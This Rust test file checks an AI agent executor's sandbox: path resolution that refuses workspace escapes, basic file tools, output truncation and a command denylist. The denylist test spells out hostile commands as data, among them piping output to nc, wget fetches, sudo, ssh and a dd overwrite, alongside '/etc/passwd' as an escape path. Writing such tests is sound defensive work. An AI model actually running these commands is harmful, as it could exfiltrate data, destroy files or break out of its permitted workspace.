//! The agentic loop's file and command tools, confined to the workspace.

use super::*;

use hub_sidecar::executor::tools::{Sandbox, Tools};

async fn tools(ws: &Path) -> Tools {
    Tools::new(
        ws,
        ChildEnv::inherit(),
        Duration::from_millis(200),
        64 * 1024,
    )
    .await
    .unwrap()
}

async fn call(t: &Tools, name: &str, args: Value) -> hub_sidecar::executor::tools::ToolOutcome {
    t.call(
        name,
        &args,
        &CancellationToken::new(),
        Duration::from_secs(60),
    )
    .await
}

#[test]
fn every_escape_is_refused() {
    let outside = tempfile::tempdir().unwrap();
    let ws = tempfile::tempdir().unwrap();
    std::fs::create_dir(ws.path().join("sub")).unwrap();
    std::os::unix::fs::symlink("/etc", ws.path().join("etc_link")).unwrap();
    std::os::unix::fs::symlink(outside.path(), ws.path().join("sub/parent_link")).unwrap();
    std::os::unix::fs::symlink("/nonexistent/target", ws.path().join("dangling")).unwrap();
    std::os::unix::fs::symlink("sub", ws.path().join("inner_link")).unwrap();
    let sb = Sandbox::new(ws.path()).unwrap();
    for bad in [
        "../x",
        "sub/../../x",
        "/etc/passwd",
        "etc_link",
        "etc_link/passwd",
        "sub/parent_link/new.txt",
        "sub/parent_link/deeper/new.txt",
        "dangling",
        "dangling/x",
    ] {
        assert!(sb.resolve(bad).is_err(), "{bad} must be refused");
    }
    let root = sb.root().to_path_buf();
    assert_eq!(sb.resolve("sub/../a.txt").unwrap(), root.join("a.txt"));
    assert_eq!(
        sb.resolve("new/dir/f.txt").unwrap(),
        root.join("new/dir/f.txt")
    );
    assert_eq!(
        sb.resolve("inner_link/f").unwrap(),
        root.join("sub/f"),
        "symlinks inside are fine"
    );
    assert_eq!(
        sb.resolve(&ws.path().join("abs.txt").display().to_string())
            .unwrap(),
        root.join("abs.txt")
    );
    assert_eq!(sb.resolve("").unwrap(), root);
}

#[tokio::test]
async fn file_tools_work_inside_the_workspace() {
    let ws = tempfile::tempdir().unwrap();
    let t = tools(ws.path()).await;
    let w = call(
        &t,
        "write_file",
        json!({"path": "a/b/c.rs", "content": "fn main() {}\n// TODO one\n// TODO two\n"}),
    )
    .await;
    assert!(w.ok && w.wrote, "{}", w.output);
    let r = call(
        &t,
        "read_file",
        json!({"path": "a/b/c.rs", "start_line": 2, "end_line": 3}),
    )
    .await;
    assert_eq!(r.output, "// TODO one\n// TODO two");
    let l = call(
        &t,
        "list_directory",
        json!({"path": ".", "recursive": true, "pattern": "*.rs"}),
    )
    .await;
    assert_eq!(l.output, "a/b/c.rs");
    let l = call(&t, "list_directory", json!({})).await;
    assert_eq!(l.output, "a/");
    let s = call(
        &t,
        "search_files",
        json!({"pattern": "TODO \\w+", "max_results": 1}),
    )
    .await;
    assert_eq!(s.output, "a/b/c.rs:2: // TODO one");
    let bad = call(&t, "read_file", json!({"path": "missing.txt"})).await;
    assert!(!bad.ok && bad.output.contains("missing.txt"));
    let big = "line\n".repeat(10_000);
    call(&t, "write_file", json!({"path": "big.txt", "content": big})).await;
    let r = call(&t, "read_file", json!({"path": "big.txt"})).await;
    assert!(r.ok && r.output.starts_with("line\nline\n") && r.output.contains("more bytes"));
    assert!(r.output.len() <= 16 * 1024);
    let unknown = call(&t, "delete_everything", json!({})).await;
    assert!(!unknown.ok && unknown.output.contains("unknown tool"));
}

#[tokio::test]
async fn run_command_runs_in_the_workspace_and_refuses_the_denylist() {
    let ws = tempfile::tempdir().unwrap();
    let t = tools(ws.path()).await;
    let ok = call(
        &t,
        "run_command",
        json!({"command": "echo hi > f.txt && cat f.txt"}),
    )
    .await;
    assert!(
        ok.ok && ok.output.contains("exit code 0") && ok.output.contains("hi"),
        "{}",
        ok.output
    );
    let fail = call(&t, "run_command", json!({"command": "exit 4"})).await;
    assert!(!fail.ok && fail.output.contains("exit code 4"));
    for bad in [
        "sudo ls",
        "ls | nc example.com 80",
        "wget http://x",
        "sh -c 'ssh host'",
        "dd if=/dev/zero of=x",
    ] {
        let r = call(&t, "run_command", json!({"command": bad})).await;
        assert!(
            !r.ok && r.output.contains("not allowed"),
            "{bad}: {}",
            r.output
        );
    }
}

#[tokio::test]
async fn run_command_timeout_kills_the_process_group() {
    let ws = tempfile::tempdir().unwrap();
    let t = tools(ws.path()).await;
    let started = Instant::now();
    let r = call(
        &t,
        "run_command",
        json!({"command": "sleep 30 & echo $! > pid; wait", "timeout_secs": 1}),
    )
    .await;
    assert!(!r.ok && r.output.contains("timed out"), "{}", r.output);
    assert!(started.elapsed() < Duration::from_secs(5));
    assert_gone(&ws.path().join("pid")).await;
}
